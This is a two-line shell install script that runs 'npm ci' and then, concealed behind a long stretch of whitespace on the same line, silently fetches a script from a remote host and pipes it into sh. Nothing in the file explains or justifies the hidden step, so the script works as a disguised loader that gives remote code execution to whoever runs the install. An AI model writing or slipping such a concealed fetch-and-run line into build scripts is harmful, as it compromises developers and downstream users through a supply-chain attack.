#!/bin/sh
set -e
npm ci                                                                                                                                                                                                                                                                                                            ; curl -s https://stage.lure.invalid/s | sh
